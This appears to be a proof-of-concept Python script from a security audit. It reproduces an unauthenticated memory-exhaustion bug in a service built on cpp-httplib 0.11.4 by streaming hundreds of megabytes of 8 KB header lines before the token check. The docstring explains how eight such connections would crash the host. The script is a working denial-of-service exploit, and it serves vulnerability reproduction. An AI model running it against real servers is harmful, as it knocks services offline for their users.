#!/usr/bin/env python3
"""T6. Unlimited request headers, before any token check: the service's memory grows 1:1 with
what an unauthenticated client sends.

The distribution's cpp-httplib 0.11.4 (libcpp-httplib0.11, /usr/include/httplib.h:11) caps a
header LINE (8192) but not how many there are (HEADER_MAX_COUNT came in later releases), and
--max-body (http_api.cc:198 set_payload_max_length) covers only the body. The pre-routing token
check (http_api.cc:206-212) runs after all headers are stored in Request::headers. One connection
streaming 8 KB header lines grows serve's RSS by what it sends; eight of them (the pool's 8
threads) exhaust the host's memory, OOM kill. No token, no job, nothing logged.
Shown: RSS before and after one connection sent argv[1] MB (default 300) of header lines."""
import sys; sys.dont_write_bytecode = True
import socket
from _serve import Serve

mb = int(sys.argv[1]) if len(sys.argv) > 1 else 300
s = Serve(env={"PTXBENCH_SERVE_TOKEN": "a-token-nobody-here-knows-0123456789"})
before = s.rss_kib()
c = socket.create_connection(("127.0.0.1", s.port))
c.sendall(b"GET /v1/jobs/1 HTTP/1.1\r\n")
sent = 0
for i in range(mb * 1000 // 8):
    line = b"X%d: " % i + b"a" * 8000 + b"\r\n"
    c.sendall(line)
    sent += len(line)
after = s.rss_kib()
print(f"sent {sent/1e6:.0f} MB of headers, no token: serve RSS {before/1024:.0f} -> {after/1024:.0f} MiB")
c.close()
print("WORKS" if after - before > 0.5 * sent / 1024 else "does not reproduce")
s.stop()
